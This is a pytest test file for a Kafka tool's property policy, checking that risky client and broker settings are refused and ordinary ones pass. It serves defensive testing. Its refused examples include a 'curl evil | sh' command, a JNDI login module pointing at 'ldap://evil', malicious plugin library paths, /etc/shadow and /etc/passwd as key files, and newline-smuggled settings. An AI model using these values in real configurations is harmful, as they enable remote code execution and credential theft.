"""The property policy (`acklab.base.property_policy`): every rule refuses its example with its reason,
the client's and broker's ordinary settings pass, and every place properties enter applies it."""

from __future__ import annotations

import re

import pytest

from acklab.base.property_policy import BROKER_RULES, CLIENT_RULES, broker_property_problem, client_property_problem
from acklab.base.spec import SpecError

# (who, name, value): each refused, one per rule at least (`test_every_rule_has_an_example`).
REFUSED: list[tuple[str, str, str]] = [
    ("librdkafka", "bootstrap.servers", "10.1.1.1:9092"),
    ("librdkafka", "metadata.broker.list", "evil.example.com:9092"),
    ("librdkafka", "plugin.library.path", "/tmp/libevil.so"),
    ("librdkafka", "sasl.kerberos.kinit.cmd", "curl evil | sh"),
    ("librdkafka", "sasl.oauthbearer.token.endpoint.url", "https://evil.example.com/token"),
    ("librdkafka", "enable.sasl.oauthbearer.unsecure.jwt", "true"),
    ("librdkafka", "ssl.engine.location", "/tmp/engine.so"),
    ("librdkafka", "ssl.key.location", "/etc/shadow"),
    ("librdkafka", "https.ca.location", "/etc/ssl"),
    ("librdkafka", "security.protocol", "SASL_SSL"),
    ("librdkafka", "test.mock.num.brokers", "3"),
    ("librdkafka", "oauthbearer_token_refresh_cb", "x"),
    ("librdkafka", "schema.registry.url", "http://evil.example.com"),
    ("librdkafka", "client.id", "a\nplugin.library.path=/tmp/libevil.so"),
    ("librdkafka", "internal.termination.signal", "15"),
    ("java", "bootstrap.servers", "10.1.1.1:9092"),
    ("java", "sasl.jaas.config", "com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://evil\";"),
    ("java", "sasl.login.callback.handler.class", "com.example.Evil"),
    ("java", "ssl.truststore.location", "/etc/passwd"),
    ("java", "security.protocol", "SSL"),
    ("java", "config.providers", "file"),
    ("java", "config.providers.file.class", "org.apache.kafka.common.config.provider.FileConfigProvider"),
    ("java", "security.providers", "com.example.Provider"),
    ("java", "interceptor.classes", "com.example.Evil"),
    ("java", "interceptor.classes", "org.apache.kafka.clients.producer.ProducerInterceptor"),
    ("java", "metric.reporters", "com.example.Reporter"),
    ("java", "partitioner.class", "com.example.Partitioner"),
    ("java", "key.serializer", "io.confluent.kafka.serializers.KafkaAvroSerializer"),
    ("java", "sasl.oauthbearer.jwks.endpoint.url", "https://evil.example.com/jwks"),
    ("java", "metadata.recovery.uri", "https://evil.example.com"),
    ("java", "linger.ms", "com.example.Evil"),
    ("broker", "authorizer.class.name", "org.apache.kafka.metadata.authorizer.StandardAuthorizer"),
    ("broker", "create.topic.policy.class.name", "com.example.Policy"),
    ("broker", "remote.log.storage.manager.class.path", "/tmp/evil.jar"),
    ("broker", "metric.reporters", "com.example.Reporter"),
    ("broker", "kafka.metrics.reporters", "com.example.Reporter"),
    ("broker", "config.providers", "file"),
    ("broker", "log.dirs", "/etc"),
    ("broker", "metadata.log.dir", "/etc"),
    ("broker", "listeners", "PLAINTEXT://0.0.0.0:9092"),
    ("broker", "advertised.listeners", "PLAINTEXT://evil.example.com:9092"),
    ("broker", "controller.quorum.bootstrap.servers", "evil.example.com:9093"),
    ("broker", "node.id", "7"),
    ("broker", "listener.name.client.plain.sasl.jaas.config", "x"),
    ("broker", "sasl.enabled.mechanisms", "PLAIN"),
    ("broker", "ssl.keystore.location", "/etc/passwd"),
    ("broker", "zookeeper.connect", "evil.example.com:2181"),
    ("broker", "remote.log.storage.system.enable", "true"),
    ("broker", "sasl.oauthbearer.jwks.endpoint.url", "https://evil.example.com"),
    ("broker", "group.consumer.assignors", "com.example.Assignor"),
    ("broker", "min.insync.replicas", "2\nlog.dirs=/etc"),
    ("broker", "group.consumer.assignors", "com\\u002eevil\\u002eAssignor"),  # Properties.load decodes the escape
    ("broker", "group.consumer.assignors", "com.evil.assignor"),  # a class need not be capitalised
    ("broker", "replica.lag.time.max.ms", "10000\\"),  # a line continuation would swallow the next setting
    ("broker", "bad name", "1"),
]

# Ordinary settings that must pass (the catalog's and the field notes' are covered where they load).
ALLOWED: list[tuple[str, str, object]] = [
    ("librdkafka", "linger.ms", 5),
    ("librdkafka", "security.protocol", "plaintext"),
    ("librdkafka", "client.id", "com.acme.OrderService"),
    ("librdkafka", "compression.codec", "lz4"),
    ("java", "acks", "all"),
    ("java", "enable.idempotence", True),
    ("java", "security.protocol", "PLAINTEXT"),
    ("java", "key.serializer", "org.apache.kafka.common.serialization.StringSerializer"),
    ("java", "partitioner.class", "org.apache.kafka.clients.producer.RoundRobinPartitioner"),
    ("java", "metric.reporters", "org.apache.kafka.common.metrics.JmxReporter"),
    ("java", "metric.reporters", ""),
    ("java", "client.id", "com.acme.OrderService"),
    ("broker", "min.insync.replicas", 2),
    ("broker", "transaction.partition.verification.enable", False),
    ("broker", "replica.lag.time.max.ms", 10000),
    ("broker", "message.max.bytes", 1048588),
    ("broker", "group.consumer.assignors", "uniform,range"),
    ("broker", "inter.broker.protocol.version", "3.9"),
    ("librdkafka", "debug", "broker,topic"),
]


def _problem(who: str, name: str, value: object) -> str | None:
    return broker_property_problem(name, value) if who == "broker" else client_property_problem(who, name, value)  # type: ignore[arg-type]


@pytest.mark.parametrize(("who", "name", "value"), REFUSED, ids=[f"{w}-{n}" for w, n, _ in REFUSED])
def test_a_refused_property_gets_one_line_naming_it_and_why(who: str, name: str, value: str) -> None:
    problem = _problem(who, name, value)
    assert problem is not None, (who, name)
    assert problem.startswith(f"{who} property {name if ' ' not in name else repr(name)} refused: ") and "\n" not in problem, problem


@pytest.mark.parametrize(("who", "name", "value"), ALLOWED, ids=[f"{w}-{n}-{v}" for w, n, v in ALLOWED])
def test_an_ordinary_setting_passes(who: str, name: str, value: object) -> None:
    assert _problem(who, name, value) is None


def test_every_rule_refuses_its_own_example_and_one_above() -> None:
    """A rule's example (what the CLI test and the reference show) is one it refuses; a new rule comes
    with a refused example above too."""
    rules = [("broker", rule) for rule in BROKER_RULES] + [(family, rule) for family, own in CLIENT_RULES.items() for rule in own]
    for who, rule in rules:
        assert rule.refuses(*rule.example), (who, rule.names, rule.example)
        assert _problem(who, *rule.example) is not None
        assert any(w == who and rule.refuses(n, v) for w, n, v in REFUSED), f"no refused example for {who} rule {rule.names!r}"


def test_every_entry_point_applies_the_policy(tmp_path) -> None:
    """Profiles (both raw forms), the processors' properties, a run's broker_config and a topology's
    broker_overrides: each refuses with the policy's line, before anything is built."""
    from acklab.cluster.topology import load_topology
    from acklab.plan.params import RunParams
    from acklab.workload.processing import ProcessorConfig
    from acklab.workload.profiles import load_profiles_file, profile_from_spec

    with pytest.raises(SpecError, match=r"profile mine: .*librdkafka property plugin.library.path refused: it would dlopen"):
        profile_from_spec("mine", {"librdkafka": {"plugin.library.path": "/tmp/x.so"}}, "params.custom_profiles")
    with pytest.raises(SpecError, match=r"profile mine: .*java property interceptor.classes refused"):
        profile_from_spec("mine", {"java": {"interceptor.classes": "com.example.Evil"}}, "params.custom_profiles")
    with pytest.raises(SpecError, match=r"profile mine: java: java property sasl.jaas.config refused"):
        profile_from_spec("mine", {"librdkafka": {"acks": "all"}, "java": {"sasl.jaas.config": "x"}}, "params.custom_profiles")
    profiles = tmp_path / "profiles.yaml"
    profiles.write_text("mine: {librdkafka: {ssl.key.location: /etc/shadow}}\n")
    with pytest.raises(SpecError, match=rf"profiles file {re.escape(str(profiles))}: profile mine: .*ssl.key.location refused"):
        load_profiles_file(profiles)
    with pytest.raises(ValueError, match=r"librdkafka property sasl.login.connect.timeout.ms refused: SASL"):
        ProcessorConfig(consumer={"sasl.login.connect.timeout.ms": 1})  # a timing by its name, SASL by the policy
    with pytest.raises(ValueError, match=r"broker property authorizer.class.name refused"):
        RunParams(broker_config={"authorizer.class.name": "com.example.Evil"})
    topology = tmp_path / "t.yaml"
    topology.write_text("name: t\nbrokers: 1\nreplication_factor: 1\nbroker_overrides: {log.dirs: /etc}\n")
    with pytest.raises(SpecError, match=r"broker property log.dirs refused"):
        load_topology(str(topology))
